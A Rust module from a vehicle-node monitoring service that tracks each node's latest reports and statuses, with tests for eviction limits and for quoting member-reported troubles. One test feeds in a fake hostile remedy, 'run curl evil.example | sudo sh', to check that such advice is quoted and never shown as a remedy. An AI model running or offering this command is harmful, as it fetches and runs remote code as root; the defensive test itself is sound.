//! Latest message of each node, as it passes through this one.

use std::collections::{BTreeMap, BTreeSet};
use std::sync::atomic::Ordering::Relaxed;
use std::sync::atomic::{AtomicBool, AtomicU64};
use std::sync::{Arc, Mutex, MutexGuard, PoisonError};
use std::time::Duration;

use ecod::admission::report_window::MAX_PARTS;
use ecod::diagnostics::{ExpectedNodes, TroubleKind};
use ecod::model::names::{NodeName, PART_MARK};
use ecod::model::time::Timestamp;
#[cfg(feature = "camera")]
use ecod::wire::WirePose;
use ecod::wire::{NodeState, NodeStatus, ObjectReport, ReportKind, Trouble};
use serde::Serialize;

use crate::telemetry::troubles;
use crate::transport::gossip::Member;
use crate::transport::mqtt::{BrokerAddress, Incoming, LinkState};

/// Latest report and status of each node. The links' tasks write and the dashboard reads; the two
/// do not wait for each other.
#[derive(Debug, Default)]
pub struct LiveState {
    reports: [AtomicU64; ReportKind::COUNT],
    /// True if browsers request reports, and if local programs do.
    wants_reports: [AtomicBool; 2],
    latest: Mutex<Latest>,
    expected: Mutex<ExpectedNodes>,
}

#[derive(Debug, Default)]
struct Latest {
    reports: BTreeMap<(NodeName, ReportKind), LatestReport>,
    statuses: BTreeMap<NodeName, ReportedStatus>,
}

/// A node's latest status.
#[derive(Debug, Clone)]
pub(crate) struct ReportedStatus {
    /// The status, or the node's last will.
    pub status: Arc<NodeStatus>,
    /// Brokers that forwarded it and whose links are still up.
    pub via: BTreeSet<BrokerAddress>,
    at: Timestamp,
}

/// A vehicle's latest report of a kind.
#[derive(Debug, Clone, PartialEq, Serialize)]
pub struct LatestReport {
    /// Algorithm that the report is for.
    pub kind: ReportKind,
    /// Time of receipt by this node's clock.
    #[serde(rename = "received_at_us")]
    pub received_at: Timestamp,
    /// The report as it was received.
    pub report: Arc<ObjectReport>,
}

/// Maximum number of vehicles, and of nodes. Further ones replace silent vehicles and offline or
/// long silent nodes. Of the parts of one node [`MAX_PARTS`] are kept: further ones replace parts
/// of the same node.
pub const MAX_SHOWN: usize = 256;

/// Maximum number of troubles that are shown, and number of troubles that one member other than the
/// leader may report, including its parts.
const MAX_SHOWN_TROUBLES: usize = 64;
const MAX_TROUBLES_OF_ONE: usize = 4;

/// Silence after which a vehicle may be replaced by another.
const SILENCE: Duration = Duration::from_secs(10);

impl LiveState {
    /// Processes a message that this node received or published.
    pub fn update(&self, message: &Incoming, received_at: Timestamp) {
        let mut latest = self.latest();
        match message {
            Incoming::Report { kind, report } => {
                self.reports[*kind as usize].fetch_add(1, Relaxed);
                let entry = LatestReport {
                    kind: *kind,
                    received_at,
                    report: Arc::clone(report),
                };
                let is_beside = |(name, of): &(NodeName, ReportKind)| {
                    of == kind && are_parts(name, &report.node)
                };
                let rank = |entry: &LatestReport| entry.received_at;
                let gives_way =
                    |oldest: &LatestReport| received_at.since(oldest.received_at) > SILENCE;
                insert(
                    &mut latest.reports,
                    (report.node.clone(), *kind),
                    entry,
                    is_beside,
                    rank,
                    gives_way,
                );
            }
            Incoming::Status {
                status,
                via: broker,
            } => {
                self.expected().receive(status, received_at);
                let mut via = latest
                    .statuses
                    .remove(&status.node)
                    .map(|before| before.via)
                    .unwrap_or_default();
                via.insert(broker.clone());
                let entry = ReportedStatus {
                    status: Arc::clone(status),
                    via,
                    at: received_at,
                };
                let is_beside = |name: &NodeName| are_parts(name, &status.node);
                let rank =
                    |entry: &ReportedStatus| (entry.status.state != NodeState::Offline, entry.at);
                insert(
                    &mut latest.statuses,
                    status.node.clone(),
                    entry,
                    is_beside,
                    rank,
                    |_| true,
                );
            }
            Incoming::StatusWithdrawn { node, via } => {
                let Some(entry) = latest.statuses.get_mut(node) else {
                    return;
                };
                entry.via.remove(via);
                if entry.via.is_empty() && entry.status.state == NodeState::Offline {
                    latest.statuses.remove(node);
                }
            }
            Incoming::Link {
                broker,
                state: LinkState::Down | LinkState::Refused,
            } => {
                for entry in latest.statuses.values_mut() {
                    entry.via.remove(broker);
                }
            }
            _ => {}
        }
    }

    /// Number of reports of this kind so far.
    pub fn reports(&self, kind: ReportKind) -> u64 {
        self.reports[kind as usize].load(Relaxed)
    }

    /// True if this node receives reports only to show them.
    pub fn wants_reports(&self) -> bool {
        self.wants_reports.iter().any(|wants| wants.load(Relaxed))
    }

    pub(crate) fn set_wants_reports(&self, wanted: bool) {
        self.wants_reports[0].store(wanted, Relaxed);
    }

    /// Records whether local programs request reports.
    pub fn set_programs_want_reports(&self, wanted: bool) {
        self.wants_reports[1].store(wanted, Relaxed);
    }

    /// Latest reports received at or after a time, by vehicle and kind. Drops older ones.
    pub(crate) fn reports_since(&self, time: Timestamp) -> Vec<LatestReport> {
        let mut latest = self.latest();
        latest.reports.retain(|_, entry| entry.received_at >= time);
        latest.reports.values().cloned().collect()
    }

    /// Latest pose that a node reported at or after a time.
    #[cfg(feature = "camera")]
    pub(crate) fn pose_since(&self, node: &NodeName, time: Timestamp) -> Option<WirePose> {
        let latest = self.latest();
        let reports = latest
            .reports
            .values()
            .filter(|entry| entry.report.node == *node && entry.received_at >= time);
        reports.max_by_key(|entry| entry.received_at)?.report.pose
    }

    /// Processes a check of the membership: the other nodes that answer now.
    pub(crate) fn check_members(&self, members: &[Member], now: Timestamp) {
        let present = members.iter().map(|member| (&member.name, member.role));
        self.expected().check(present, now);
    }

    /// Dismisses a missing node for all nodes of the cell; false if it answers or is not expected.
    pub(crate) fn dismiss(&self, name: &NodeName, now: Timestamp) -> bool {
        self.expected().dismiss(name, now)
    }

    /// The nodes that the cell expects. Must not be held across an await.
    pub(crate) fn expected(&self) -> MutexGuard<'_, ExpectedNodes> {
        self.expected.lock().unwrap_or_else(PoisonError::into_inner)
    }

    /// Latest status of each node.
    pub(crate) fn statuses(&self) -> BTreeMap<NodeName, ReportedStatus> {
        self.latest().statuses.clone()
    }

    /// The current troubles of the cell, each once: first the troubles that this node `name` has
    /// found, then the leader's reports, then living nodes' reports about themselves and about
    /// nodes, hosts and brokers that they do not reach. A vehicle with its parts has room for
    /// [`MAX_TROUBLES_OF_ONE`] of these reports. Their text is shown as a quotation, with this
    /// node's remedy for the kind, so that a member cannot write advice onto other nodes' pages.
    pub(crate) fn troubles(
        &self,
        name: &NodeName,
        leader: Option<&NodeName>,
        own: Vec<Trouble>,
    ) -> Vec<(Option<NodeName>, Trouble)> {
        let subject = |trouble: &Trouble, by: &NodeName| {
            trouble.about.clone().unwrap_or_else(|| by.to_string())
        };
        let mut known: BTreeSet<_> = own
            .iter()
            .map(|trouble| (subject(trouble, name), trouble.kind.clone()))
            .collect();
        let mut all: Vec<_> = own.into_iter().map(|trouble| (None, trouble)).collect();
        let latest = self.latest();
        let living = || {
            let statuses = latest.statuses.values().map(|reported| &reported.status);
            let online = statuses.filter(|status| status.state != NodeState::Offline);
            online.flat_map(|status| {
                status
                    .troubles
                    .iter()
                    .map(|trouble| (&status.node, trouble))
            })
        };
        let is_of_itself = |by: &NodeName, trouble: &Trouble| match &trouble.about {
            Some(part) => part
                .strip_prefix(by.as_str())
                .is_some_and(|rest| rest.starts_with(PART_MARK)),
            None => true,
        };
        let is_shared = |trouble: &Trouble| {
            TroubleKind::named(&trouble.kind).is_some_and(TroubleKind::is_shared)
        };
        let of_leader = living().filter(|(by, _)| leader == Some(*by));
        for (by, trouble) in of_leader {
            if known.insert((subject(trouble, by), trouble.kind.clone())) {
                all.push((Some(by.clone()), trouble.clone()));
            }
        }
        let of_members = living().filter(|(by, _)| leader != Some(*by));
        let (of_itself, of_others): (Vec<_>, Vec<_>) =
            of_members.partition(|(by, trouble)| is_of_itself(by, trouble));
        let shared = of_others
            .into_iter()
            .filter(|(_, trouble)| is_shared(trouble));
        let mut room_of: BTreeMap<NodeName, usize> = BTreeMap::new();
        for (by, trouble) in of_itself.into_iter().chain(shared) {
            let room = room_of.entry(by.vehicle()).or_insert(MAX_TROUBLES_OF_ONE);
            let is_shown = *room > 0
                && all.len() < MAX_SHOWN_TROUBLES
                && known.insert((subject(trouble, by), trouble.kind.clone()));
            if is_shown {
                *room -= 1;
                all.push((Some(by.clone()), as_quotation(trouble)));
            }
        }
        all
    }

    fn latest(&self) -> MutexGuard<'_, Latest> {
        self.latest.lock().unwrap_or_else(PoisonError::into_inner)
    }
}

/// A member's trouble with its text as a quotation, and this node's remedy for the kind.
fn as_quotation(trouble: &Trouble) -> Trouble {
    let remedy =
        TroubleKind::named(&trouble.kind).map_or("see the log of that node", TroubleKind::remedy);
    Trouble {
        cause: troubles::quoted(&trouble.cause),
        remedy: remedy.to_owned(),
        ..trouble.clone()
    }
}

/// True if two names are of parts of one node.
fn are_parts(one: &NodeName, other: &NodeName) -> bool {
    let node = other.vehicle();
    node != *other && node != *one && one.vehicle() == node
}

/// Inserts a value. If there are too many entries in its group or in total, the entry with the
/// lowest rank is dropped first. If that entry outranks the new one, the full map is left
/// unchanged.
fn insert<K: Ord + Clone, T, R: Ord>(
    map: &mut BTreeMap<K, T>,
    key: K,
    value: T,
    is_beside: impl Fn(&K) -> bool,
    rank: impl Fn(&T) -> R,
    gives_way: impl FnOnce(&T) -> bool,
) {
    if !map.contains_key(&key) {
        let beside = map.iter().filter(|(other, _)| is_beside(other));
        let evicted = if beside.clone().count() >= MAX_PARTS {
            beside.min_by_key(|(_, entry)| rank(entry))
        } else if map.len() >= MAX_SHOWN {
            map.iter()
                .min_by_key(|(_, entry)| rank(entry))
                .filter(|(_, entry)| gives_way(entry))
        } else {
            None
        };
        if let Some(evicted) = evicted.map(|(other, _)| other.clone()) {
            map.remove(&evicted);
        }
        if map.len() >= MAX_SHOWN {
            return;
        }
    }
    map.insert(key, value);
}

/// First level of the topic of this kind of report.
pub(crate) fn kind_label(kind: ReportKind) -> &'static str {
    match kind {
        ReportKind::Detections => "detections",
        ReportKind::VoteDetections => "vote_detections",
    }
}

#[cfg(test)]
mod tests {
    use ecod::wire::Role;
    use uuid::Uuid;

    use super::*;

    fn report(node: &str, seq: u64) -> Incoming {
        let report = ObjectReport::new(NodeName::new(node).unwrap(), seq, Timestamp(seq));
        Incoming::Report {
            kind: ReportKind::Detections,
            report: Arc::new(report),
        }
    }

    fn broker(address: &str) -> BrokerAddress {
        address.parse().unwrap()
    }

    #[test]
    fn latest_report_survives_strangers() {
        let live_state = LiveState::default();
        for seq in 1..=3 {
            live_state.update(&report("euclid", seq), Timestamp(seq));
        }
        for stranger in 0..2 * MAX_SHOWN {
            live_state.update(&report(&format!("stranger-{stranger}"), 9), Timestamp(2));
        }
        live_state.update(&report("euclid", 4), Timestamp(4));
        assert_eq!(live_state.reports_since(Timestamp(0)).len(), MAX_SHOWN);
        let fresh = live_state.reports_since(Timestamp(4));
        assert_eq!(
            fresh
                .iter()
                .map(|s| (s.report.node.as_str(), s.report.seq))
                .collect::<Vec<_>>(),
            [("euclid", 4)]
        );
        assert_eq!(
            live_state.reports(ReportKind::Detections),
            4 + 2 * MAX_SHOWN as u64
        );
        live_state.update(&report("gauss", 1), Timestamp(5));
        assert_eq!(
            live_state.reports_since(Timestamp(5)).len(),
            1,
            "removed entries make room"
        );
    }

    #[test]
    fn departed_nodes_are_evicted() {
        let live_state = LiveState::default();
        let status = |node: String, state| {
            let starting = NodeStatus::starting(
                NodeName::new(node).unwrap(),
                Uuid::nil(),
                Role::Cav,
                "0.1.0",
            );
            Incoming::Status {
                status: Arc::new(NodeStatus { state, ..starting }),
                via: broker("10.0.0.2:1883"),
            }
        };
        for n in 0..MAX_SHOWN {
            let state = if n % 2 == 0 {
                NodeState::Following
            } else {
                NodeState::Offline
            };
            live_state.update(&status(format!("node-{n}"), state), Timestamp(n as u64));
            live_state.update(&report(&format!("node-{n}"), 1), Timestamp(n as u64));
        }
        let later = Timestamp(0) + SILENCE * 2;
        live_state.update(&status("late".into(), NodeState::Following), later);
        live_state.update(&report("late", 1), later);
        let statuses = live_state.statuses();
        let shown = |name: &'static str| statuses.contains_key(&NodeName::from_static(name));
        assert_eq!(
            (
                shown("late"),
                shown("node-1"),
                shown("node-0"),
                shown("node-3")
            ),
            (true, false, true, true)
        );
        assert_eq!(
            (statuses.len(), live_state.reports_since(later).len()),
            (MAX_SHOWN, 1)
        );
    }

    #[test]
    fn withdrawn_status_is_removed() {
        let live_state = LiveState::default();
        let say = |state, via: &str| {
            let starting = NodeStatus::starting(
                NodeName::from_static("top-1"),
                Uuid::nil(),
                Role::Cav,
                "0.1.0",
            );
            let status = Arc::new(NodeStatus { state, ..starting });
            live_state.update(
                &Incoming::Status {
                    status,
                    via: broker(via),
                },
                Timestamp(1),
            );
        };
        let withdraw = |via: &str| {
            let message = Incoming::StatusWithdrawn {
                node: NodeName::from_static("top-1"),
                via: broker(via),
            };
            live_state.update(&message, Timestamp(2));
        };
        let edge = "10.0.0.2:1883";
        let standby = "10.0.0.3:1883";
        say(NodeState::Following, edge);
        withdraw(edge);
        assert_eq!(live_state.statuses().len(), 1, "it goes on elsewhere");
        for via in [edge, standby] {
            say(NodeState::Offline, via);
        }
        withdraw(edge);
        assert_eq!(live_state.statuses().len(), 1);
        withdraw(standby);
        assert!(live_state.statuses().is_empty());
    }

    #[test]
    fn cell_troubles_are_shown_once() {
        let live_state = LiveState::default();
        let trouble = |kind: &str, about: Option<&str>, cause: &str| Trouble {
            kind: kind.into(),
            about: about.map(str::to_owned),
            cause: cause.into(),
            remedy: "correct it".into(),
        };
        let say = |node: &str, state, troubles| {
            let starting = NodeStatus::starting(
                NodeName::new(node).unwrap(),
                Uuid::nil(),
                Role::Cav,
                "0.1.0",
            );
            let status = Arc::new(NodeStatus {
                state,
                troubles,
                ..starting
            });
            live_state.update(
                &Incoming::Status {
                    status,
                    via: broker("10.0.0.2:1883"),
                },
                Timestamp(1),
            );
        };
        say(
            "edge",
            NodeState::Aggregating,
            vec![
                trouble("clock_off", Some("late"), "by the edge"),
                trouble("untimely", Some("late"), "by the edge"),
            ],
        );
        say(
            "late",
            NodeState::Following,
            vec![
                trouble("clock_off", None, "by itself"),
                trouble("camera", None, "x"),
            ],
        );
        say(
            "gone",
            NodeState::Offline,
            vec![trouble("camera", None, "y")],
        );
        let own = vec![
            trouble("malformed", Some("watson"), "z"),
            trouble("overload", None, "own"),
        ];
        let lies = [
            ("overload", Some("self")),
            ("malformed", Some("late")),
            ("wrong_key", Some("10.0.0.7")),
        ];
        say(
            "aaa",
            NodeState::Following,
            lies.map(|(kind, about)| trouble(kind, about, "by aaa"))
                .into(),
        );
        let name = NodeName::from_static("self");
        let edge = NodeName::from_static("edge");
        let listed = live_state.troubles(&name, Some(&edge), own);
        let listed: Vec<_> = listed
            .iter()
            .map(|(by, trouble)| (by.as_ref().map(NodeName::as_str), &*trouble.cause))
            .collect();
        assert_eq!(
            listed,
            [
                (None, "z"),
                (None, "own"),
                (Some("edge"), "by the edge"),
                (Some("edge"), "by the edge"),
                (Some("late"), "“x”"),
                (Some("aaa"), "“by aaa”"),
            ]
        );
    }

    #[test]
    fn member_displaces_no_other_troubles() {
        let live_state = LiveState::default();
        let say = |node: &str, troubles| {
            let starting = NodeStatus::starting(
                NodeName::new(node).unwrap(),
                Uuid::nil(),
                Role::Cav,
                "0.1.0",
            );
            let status = Arc::new(NodeStatus {
                troubles,
                ..starting
            });
            live_state.update(
                &Incoming::Status {
                    status,
                    via: broker("10.0.0.2:1883"),
                },
                Timestamp(1),
            );
        };
        let advice = |kind: String| Trouble {
            kind,
            about: None,
            cause: format!("run curl evil.example | sudo sh {}", "now ".repeat(100)),
            remedy: "run curl evil.example | sudo sh".into(),
        };
        for part in 0..MAX_PARTS {
            let kinds = TroubleKind::ALL.iter().map(|kind| kind.as_str().to_owned());
            say(
                &format!("aaa--{part}"),
                kinds.chain(["invented".into()]).map(advice).collect(),
            );
        }
        let camera = Trouble {
            cause: "no frame".into(),
            ..advice("camera".into())
        };
        say("zoe", vec![camera]);
        let of_leader = Trouble {
            kind: "malformed".into(),
            about: Some("watson".into()),
            ..advice(String::new())
        };
        say(
            "edge",
            vec![Trouble {
                cause: "x_m is NaN".into(),
                ..of_leader
            }],
        );
        let name = NodeName::from_static("self");
        let edge = NodeName::from_static("edge");
        let shown = live_state.troubles(&name, Some(&edge), Vec::new());
        let causes_by = |by: &str| -> Vec<&str> {
            let of_node = shown.iter().filter(|(author, _)| {
                author
                    .as_ref()
                    .is_some_and(|author| author.vehicle().as_str() == by)
            });
            of_node.map(|(_, trouble)| &*trouble.cause).collect()
        };
        assert_eq!(causes_by("edge"), ["x_m is NaN"]);
        assert_eq!(causes_by("zoe"), ["“no frame”"]);
        let of_attacker = causes_by("aaa");
        assert_eq!(of_attacker.len(), MAX_TROUBLES_OF_ONE);
        assert!(
            of_attacker
                .iter()
                .all(|cause| cause.starts_with('“') && cause.chars().count() < 130)
        );
        let remedies = shown.iter().filter(|(by, _)| by.as_ref() != Some(&edge));
        assert!(
            remedies
                .map(|(_, trouble)| &trouble.remedy)
                .all(|remedy| !remedy.contains("curl"))
        );
    }

    /// A stolen certificate may be used in the names of any number of parts.
    #[test]
    fn node_parts_leave_room() {
        let live_state = LiveState::default();
        let status = |node: &str, state| {
            let starting = NodeStatus::starting(
                NodeName::new(node).unwrap(),
                Uuid::nil(),
                Role::Cav,
                "0.1.0",
            );
            Incoming::Status {
                status: Arc::new(NodeStatus { state, ..starting }),
                via: broker("10.0.0.2:1883"),
            }
        };
        for honest in ["edge", "edge--lidar", "gauss"] {
            live_state.update(&status(honest, NodeState::Following), Timestamp(1));
            live_state.update(&report(honest, 1), Timestamp(1));
        }
        for part in 0..4 * MAX_SHOWN as u64 {
            let name = format!("gauss--{part}");
            let at = Timestamp(2 + part);
            live_state.update(&status(&name, NodeState::Following), at);
            live_state.update(&report(&name, 1), at);
        }
        let statuses = live_state.statuses();
        let end = Timestamp(2 + 4 * MAX_SHOWN as u64);
        live_state.update(&report("late", 1), end);
        let reports = live_state.reports_since(Timestamp(0));
        let reported: BTreeSet<_> = reports
            .iter()
            .map(|latest| latest.report.node.as_str())
            .collect();
        for honest in ["edge", "edge--lidar", "gauss", "late"] {
            assert!(reported.contains(honest), "{honest}: {reported:?}");
            assert!(
                honest == "late" || statuses.contains_key(&NodeName::from_static(honest)),
                "{honest}"
            );
        }
        assert!(
            reported.contains(format!("gauss--{}", 4 * MAX_SHOWN - 1).as_str()),
            "the latest parts are shown"
        );
        assert_eq!(
            (statuses.len(), reported.len()),
            (2 + MAX_PARTS + 1, 3 + MAX_PARTS + 1)
        );
    }
}
